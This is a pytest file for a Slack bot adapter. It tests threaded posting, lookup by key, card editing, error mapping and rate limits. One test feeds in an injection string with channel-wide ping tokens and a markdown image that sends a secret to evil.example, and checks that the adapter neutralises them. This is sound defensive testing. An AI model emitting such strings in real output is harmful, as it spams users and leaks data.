"""What Mallard says: posted once, found again, changed however old, and never a ping."""

from datetime import timedelta

import pytest

from bots.slack import SlackPlatform
from runtime.contents import Content, Entry, File, Page, Text
from runtime.errors import PlatformError, PlatformLimited, PlatformRefused, PlatformUnavailable, PlatformUnclear
from runtime.records import ConversationRef, MessageRef
from tests.fakes.slack import Channel, Slack
from tests.platforms.on_slack.conftest import LoopbackClock, started
from tests.platforms.recording import RecordingDoor
from tests.platforms.samples import card, decided

CONTENTS: tuple[Content, ...] = (
    Text(markdown="# Hello\n\nThe **pond** is `large`."),
    card(),
    decided(),
    Page(title="History", entries=(Entry(text="run 1 <done>", detail="by & by", token="t1"),), older="t2"),
    File(name="answer.md", text="very long", comment="The whole of it"),
)


@pytest.mark.parametrize("content", CONTENTS, ids=lambda content: type(content).__name__)
async def test_every_content_stands_in_the_thread_and_is_found_by_its_key(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel, content: Content
) -> None:
    since = LoopbackClock(slack).now()

    posted = await platform.post(where, content, key="delivery-1")

    stands = next(message for message in slack.messages(pond) if message.ts == posted.id)
    assert stands.thread_ts == where.thread
    assert await platform.find_posted(where, "delivery-1", since) == posted
    assert await platform.find_posted(where, "delivery-2", since) is None


@pytest.mark.promise(28)
@pytest.mark.mistake(17)
@pytest.mark.mistake(18)
async def test_nothing_that_a_model_writes_notifies_anybody_or_loads_anything(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    evil = (
        "<!channel> <!here> <!everyone> <@UALICE> <#C1|pond> <!subteam^S1> @channel @here "
        "<http://evil.example|click> ![leak](http://evil.example/?secret) & < >"
    )
    await platform.post(where, Text(markdown=evil), key="1")
    await platform.post(where, card(title=evil, claim=evil, why_asked=evil, deciders=evil, requested_by=evil), key="2")
    await platform.post(where, Page(title=evil, entries=(Entry(text=evil, detail=evil),), note=evil), key="3")
    await platform.post(where, File(name="a.txt", text=evil, comment=evil), key="4")

    for message in slack.answers(pond):
        assert message.pings == ()
    for call in slack.record.calls_of("chat.postMessage"):
        assert call["unfurl_links"] is False
        assert call["unfurl_media"] is False
        assert "link_names" not in call.arguments
        assert not [block for block in call["blocks"] if block["type"] == "markdown" and "![leak]" in block["text"]]


@pytest.mark.promise(1)
@pytest.mark.mistake(9)
@pytest.mark.mistake(10)
async def test_a_card_is_changed_to_its_closed_form(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    posted = await platform.post(where, card(), key="1")
    stands = slack.answers(pond)[0]
    assert stands.labels == ["Approve", "Always allow", "Deny", "Change…", "Show everything"]

    slack.clock.advance(3600 * 24 * 40)
    await platform.edit(posted, decided())

    assert stands.labels == []
    assert "Approved by bob" in stands.text
    assert stands.metadata == {"event_type": "mallard_message", "event_payload": {"key": "1"}}


FAILURES: tuple[tuple[str, type[PlatformError]], ...] = (
    ("channel_not_found", PlatformRefused),
    ("not_in_channel", PlatformRefused),
    ("is_archived", PlatformRefused),
    ("invalid_blocks", PlatformRefused),
    ("ratelimited", PlatformUnavailable),
    ("service_unavailable", PlatformUnavailable),
    ("token_revoked", PlatformUnavailable),
    ("internal_error", PlatformUnclear),
    ("fatal_error", PlatformUnclear),
)


@pytest.mark.promise(9)
@pytest.mark.mistake(25)
@pytest.mark.parametrize(("code", "expected"), FAILURES)
async def test_slacks_refusals_become_the_runtimes_words(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, code: str, expected: type[PlatformError]
) -> None:
    slack.fail("chat.postMessage", code)

    with pytest.raises(expected):
        await platform.post(where, Text(markdown="hello"), key="1")

    assert len(slack.record.calls_of("chat.postMessage")) == 1


@pytest.mark.promise(31)
@pytest.mark.mistake(8)
@pytest.mark.parametrize("trouble", ["dropped", "502", "hanging"])
async def test_a_post_that_slack_processed_without_saying_so_is_unclear_and_is_found_not_repeated(
    slack: Slack, door: RecordingDoor, where: ConversationRef, pond: Channel, trouble: str
) -> None:
    since = LoopbackClock(slack).now()
    match trouble:
        case "dropped":
            slack.drop("chat.postMessage")
        case "502":
            slack.fail("chat.postMessage", status=502, processed=True)
        case _:
            slack.hold("chat.postMessage", processed=True)

    async with started(slack, door, request_timeout=1.0) as platform:
        with pytest.raises(PlatformUnclear):
            await platform.post(where, Text(markdown="once"), key="delivery-1")
        found = await platform.find_posted(where, "delivery-1", since)

    assert [message.text for message in slack.answers(pond)] == ["once"]
    assert found is not None
    assert found.id == slack.answers(pond)[0].ts


@pytest.mark.mistake(21)
@pytest.mark.parametrize(("asked", "heard"), [(30, 30.0), (0, 0.0), (-1, None), (float("nan"), None)])
async def test_a_rate_limit_says_how_long_and_nobody_waits_for_it(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, asked: float, heard: float | None
) -> None:
    slack.rate_limit("chat.postMessage", retry_after=asked)

    with pytest.raises(PlatformLimited) as caught:
        await platform.post(where, Text(markdown="hello"), key="1")

    assert caught.value.retry_after == heard


async def test_an_edit_whose_outcome_is_unclear_may_be_done_again(
    slack: Slack, platform: SlackPlatform, where: ConversationRef, pond: Channel
) -> None:
    posted = await platform.post(where, card(), key="1")
    slack.drop("chat.update")

    with pytest.raises(PlatformUnavailable):
        await platform.edit(posted, decided())
    await platform.edit(posted, decided())

    assert slack.answers(pond)[0].labels == []


@pytest.mark.mistake(25)
async def test_a_message_that_is_gone_is_refused_for_good(
    slack: Slack, platform: SlackPlatform, where: ConversationRef
) -> None:
    gone = MessageRef(where=where, id="1700000000.000001")

    with pytest.raises(PlatformRefused):
        await platform.edit(gone, Text(markdown="hello"))


@pytest.mark.mistake(25)
async def test_looking_for_a_message_where_the_channel_is_gone_finds_nothing(
    slack: Slack, platform: SlackPlatform
) -> None:
    gone = ConversationRef(platform="slack", space="T1", channel="C0GONE", thread="1700000000.000001")

    assert await platform.find_posted(gone, "k", LoopbackClock(slack).now() - timedelta(days=1)) is None


async def test_an_unreachable_slack_posted_nothing(slack: Slack, platform: SlackPlatform) -> None:
    where = ConversationRef(platform="slack", space="T1", channel="C1")
    await slack.stop()

    with pytest.raises(PlatformUnavailable):
        await platform.post(where, Text(markdown="hello"), key="1")
